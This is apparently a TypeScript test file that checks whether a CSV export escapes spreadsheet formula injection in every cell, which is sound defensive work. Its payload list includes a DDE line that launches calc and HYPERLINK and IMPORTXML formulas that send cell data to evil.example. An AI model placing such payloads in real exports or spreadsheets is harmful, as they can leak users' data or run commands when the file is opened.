import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { expect, test } from 'vitest';
import { subjectTableNamed } from '../../db/data-map/index.ts';
import { visibleColumns } from '../../db/data-map/view.ts';
import { csvText } from '../requests/copy/table-files.ts';
import { csvCell } from './csv-cell.ts';

/** With what a spreadsheet begins a formula, also where a wide character or a blank stands for it. */
const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const ACTS = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("https://evil.example?x="&A1,"Open")',
  'IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  '1+1',
  'SUM(1)*1',
  '"=1+1"',
];
const payloads = BEGINNINGS.flatMap((first) => ACTS.map((act) => first + act)).slice(0, 60);
const TRIGGER = /^[=+\-@\t\r\n\0＝＋－＠]/;

/** What a spreadsheet reads back from the file. */
const cellsOf = (text: string) =>
  parse(text, { bom: true, relax_column_count: true }) as string[][];

test('of 60 formulas no cell begins as one, in a table as a file nor in a copy, and the text behind the apostrophe is whole', async () => {
  expect(new Set(payloads).size).toBe(60);
  const file = cellsOf(stringify(payloads.map((value) => [csvCell(value), csvCell([value, 'b'])])));
  expect(file.map(([cell]) => cell)).toEqual(payloads.map((value) => `'${value}`));
  expect(file.map(([, list]) => list)).toEqual(payloads.map((value) => `'${value}; b`));
  expect(file.flat().filter((cell) => TRIGGER.test(cell))).toEqual([]);

  const table = subjectTableNamed('apiUsage');
  const width = visibleColumns(table).length;
  const batches = (async function* () {
    yield payloads.map((value) => Array.from({ length: width }, () => value));
  })();
  let text = '';
  for await (const piece of csvText(table, batches)) text += piece;
  const copied = cellsOf(text).slice(1);
  expect(copied).toHaveLength(60);
  expect(copied.flat().filter((cell) => TRIGGER.test(cell))).toEqual([]);
  expect(copied.map(([cell]) => cell?.replace(/^'/, ''))).toEqual(payloads);
});

test('a number that is below nothing stays a number', () => {
  expect([csvCell(-5), csvCell(0), csvCell(null), csvCell(true)]).toEqual(['-5', '0', '', 'true']);
});
